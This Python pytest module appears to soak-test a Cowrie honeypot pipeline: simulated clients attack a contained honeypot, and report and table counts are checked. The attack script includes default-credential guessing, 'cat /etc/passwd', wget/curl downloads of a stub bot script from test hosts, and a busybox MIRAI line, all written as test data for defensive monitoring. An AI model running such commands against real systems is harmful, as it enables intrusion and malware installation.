"""A real Cowrie, attacked by real clients and followed by the sensors of a running Dagster.

The clients keep their own count (`attacker.py`); each number of the day's report and of the tables is compared with it.
`pytest -m soak -s` shows how long each report took.
"""

import json
import tempfile
import time
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from cowrie_assets.clock import US_PER_DAY, US_PER_SECOND, now_us, today
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets_tests.attacker import Attacker, Done, Typed, figures
from cowrie_assets_tests.real_cowrie import ACCOUNTS, ADDRESS, Honeypot, Network, cowrie, network, required, web_server
from cowrie_assets_tests.tables import rows
from cowrie_assets_tests.ui.dev import Dev, running

pytestmark = [pytest.mark.soak, pytest.mark.timeout(1800)]

ATTACKERS = ("203.0.113.5", "203.0.113.6", "203.0.113.7")
NUMBERS = range(1, len(ATTACKERS) + 1)
WEB = "192.88.99.{}"
"""Cowrie fetches from addresses that are globally routed only, and five times a minute from one of them."""
BOT = b"#!/bin/sh\necho bot\n"
PROMISED = 120.0
"""Seconds from the last act to the report that tells it."""


@dataclass(frozen=True)
class Field:
    """Where honeypots and attackers meet, and the Dagster that looks on."""

    dev: Dev
    network: Network
    folder: Path
    """All users may walk into it."""
    log_root: Path

    def attackers(self, name: str) -> list[Attacker]:
        """Three, whose own files lie in the folder `name`."""
        folders = [self.folder / "attackers" / name / address for address in ATTACKERS]
        for each in folders:
            each.mkdir(parents=True)
        return [Attacker(self.network, *each) for each in zip(ATTACKERS, folders, strict=True)]


@pytest.fixture(scope="module")
def field(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Field]:
    required()
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="cowrie_assets_field_")))
        log_root, web = folder / "logs", folder / "web"
        for each in (folder, log_root, web):
            each.mkdir(exist_ok=True)
            each.chmod(0o755)
        (web / "bot.sh").write_bytes(BOT)
        hosts = [WEB.format(number) for number in NUMBERS]
        inside = stack.enter_context(network(ADDRESS, *ATTACKERS, *hosts))
        stack.enter_context(web_server(inside, web))
        first_day = str(today() - timedelta(days=30))
        settings = {"COWRIE_LOG_ROOT": str(log_root), "COWRIE_FIRST_DAY": first_day}
        dev = stack.enter_context(running(tmp_path_factory.mktemp("dagster"), **settings))
        yield Field(dev, inside, folder, log_root)


@pytest.fixture
def running_day() -> date:
    """The UTC day that runs, and goes on for a quarter of an hour: close to midnight it is waited for."""
    left = (US_PER_DAY - now_us() % US_PER_DAY) / US_PER_SECOND
    if left < 900:
        time.sleep(left + 0.1)
    return today()


def test_what_attackers_did_today_is_in_the_report_of_today(field: Field, running_day: date) -> None:
    attackers = field.attackers("live")
    with cowrie(field.network, field.folder / "live", field.log_root, "hp-live", datetime.now(UTC)) as honeypot:
        _attack_side_by_side(attackers)
        acted = time.monotonic()
        done = _all_done(attackers)
        for scope in ("hp-live", "aggregate"):
            _reports_tell(field.dev, scope, {running_day: done}, acted)
    _tables_hold(field.dev, honeypot, done)


def test_a_rotation_in_the_middle_of_a_session_loses_and_doubles_nothing(field: Field) -> None:
    """The log is read before Cowrie's midnight; a session goes on behind it, and belongs to the day it began on."""
    first = today() - timedelta(days=3)
    evening = datetime(first.year, first.month, first.day, 23, 30, tzinfo=UTC)
    early, late = field.attackers("early"), field.attackers("late")
    with cowrie(field.network, field.folder / "rotated", field.log_root, "hp-rotated", evening) as honeypot:
        with early[0].open_shell("root") as shell:
            shell.type(Typed("id"))
            _attack_side_by_side(early)
            _reports_tell(field.dev, "hp-rotated", {first: _all_done(early)}, time.monotonic())
            honeypot.set_clock(evening + timedelta(minutes=45))
            shell.type(Typed("echo over > /tmp/midnight", stored=b"over\n"))
            _attack_side_by_side(late)
        acted = time.monotonic()
        days = {first: _all_done(early), first + timedelta(days=1): _all_done(late)}
        _reports_tell(field.dev, "hp-rotated", days, acted)
    assert {log.name for log in honeypot.logs.iterdir()} == {"cowrie.json", f"cowrie.json.{first}"}
    _tables_hold(field.dev, honeypot, [done for of_day in days.values() for done in of_day])


def _attack_side_by_side(attackers: Sequence[Attacker]) -> None:
    with ThreadPoolExecutor(len(attackers)) as pool:
        list(pool.map(_attack, attackers, NUMBERS))


def _attack(attacker: Attacker, number: int) -> None:
    """What a bot and a curious person do, with something of its own from each attacker."""
    url, closed = f"http://{WEB.format(number)}/bot.sh", f"http://{WEB.format(number)}:81/bot.sh"
    attacker.guess("admin", "admin", "123456", f'it\'s "{number}" <b>')
    attacker.run("root", ["root", "toor", ACCOUNTS["root"]], "uname -a; cat /etc/passwd | head -n 1")
    attacker.run("pi", [ACCOUNTS["pi"]], "id\nuname -m\n")
    attacker.shell(
        "root",
        [
            Typed("uname -a"),
            Typed(""),
            Typed("cat /proc/cpuinfo | grep name | wc -l"),
            Typed("echo \"it's 'quoted' & <script>\" $HOME"),
            Typed("nosuchcommand --flag"),
            Typed("for each in 1 2; do"),
            Typed("echo $each"),
            Typed("done"),
            Typed("sh -c 'id; w'", runs=("id; w",)),
            Typed(f"echo payload {number} > /tmp/x", stored=f"payload {number}\n".encode()),
            Typed(f"wget -O /tmp/bot {url}", stored=BOT, url=url),
            Typed(f"curl -O {url}", stored=BOT, url=url),
            Typed(f"wget {closed}", fails=True),
        ],
    )
    attacker.upload(b"\x7fELF of all", "miner")
    attacker.upload(f"\x7fELF of {number}".encode(), f"miner{number}")
    attacker.forward("203.0.113.80:80", b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n")
    attacker.forward(f"[2001:db8::{number}]:25", b"EHLO example.org\r\n")
    attacker.telnet(
        "root",
        ["xc3511", ACCOUNTS["root"]],
        [Typed("enable"), Typed("/bin/busybox MIRAI"), Typed(f"wget {url}", stored=BOT, url=url)],
    )


def _all_done(attackers: Sequence[Attacker]) -> list[Done]:
    return [done for attacker in attackers for done in attacker.done]


def _reports_tell(dev: Dev, scope: str, days: Mapping[date, Sequence[Done]], acted: float) -> None:
    """Within the promised time after the last act the report of each day says what was done on it, and no more."""
    for day, done in days.items():
        did = figures(done)
        path = dev.reports / "daily" / str(day) / f"{scope}.json"
        while (told := _told(path, did)) != did and time.monotonic() - acted < PROMISED:
            time.sleep(0.5)
        assert told == did, dev.last_words()
        total, seconds = did["sessions"]["total"], time.monotonic() - acted
        print(f"\n{scope} {day}: {total} sessions told {seconds:.0f} s after the last act")


def _told(path: Path, did: Mapping[str, Mapping[str, Any]]) -> dict[str, dict[str, Any]] | None:
    """The same numbers of a report, or None if it is not written yet."""
    if not path.exists():
        return None
    report = json.loads(path.read_text())
    return {section: {key: report[section][key] for key in keys} for section, keys in did.items()}


def _tables_hold(dev: Dev, honeypot: Honeypot, done: Sequence[Done]) -> None:
    """The tables say of the sensor what its clients did, and the ledger accounts for each line of its logs once."""
    with Warehouse.open(dev.database_url) as warehouse:
        found = {
            view: [row for row in rows(warehouse, view) if row["sensor"] == honeypot.sensor]
            for view in ("session_summaries", "login_stats", "command_stats", "files", "log_files")
        }
    assert Counter(tuple(row[name] for name in _SESSION) for row in found["session_summaries"]) == Counter(
        map(_session, done)
    )
    attempts, successes = Counter[tuple[str, str]](), Counter[tuple[str, str]]()
    for row in found["login_stats"]:
        attempts[row["username"], row["password"]] += row["attempts"]
        successes[row["username"], row["password"]] += row["successes"]
    assert attempts == Counter((each.user, password) for each in done for password in each.passwords)
    assert +successes == Counter((each.user, each.passwords[-1]) for each in done if each.is_in)
    assert _occurrences(found["command_stats"], "command") == Counter(
        command for each in done for command in each.commands
    )
    assert _occurrences(found["files"], "shasum", "direction") == Counter(
        [(shasum, "download") for each in done for shasum, _ in each.downloads]
        + [(shasum, "upload") for each in done for shasum in each.uploads]
    )
    lines = sum(len(log.read_bytes().splitlines()) for log in honeypot.logs.iterdir())
    assert sum(row["lines"] for row in found["log_files"]) == sum(row["events"] for row in found["log_files"]) == lines


def _occurrences(found: Sequence[Mapping[str, Any]], *names: str) -> Counter[Any]:
    counted: Counter[Any] = Counter()
    for row in found:
        counted[row[names[0]] if len(names) == 1 else tuple(row[name] for name in names)] += row["occurrences"]
    return counted


_SESSION = (
    *("protocol", "src_ip", "username", "password", "closed", "command_count", "login_successes", "login_failures"),
    *("file_downloads", "file_downloads_failed", "file_uploads", "tunnel_requests"),
)


def _session(done: Done) -> tuple[Any, ...]:
    """What `_SESSION` is of it."""
    return (
        *(done.protocol, done.address, done.user, done.passwords[-1], 1, len(done.commands)),
        *(int(done.is_in), done.failures, len(done.downloads), done.downloads_failed),
        *(len(done.uploads), len(done.tunnels)),
    )
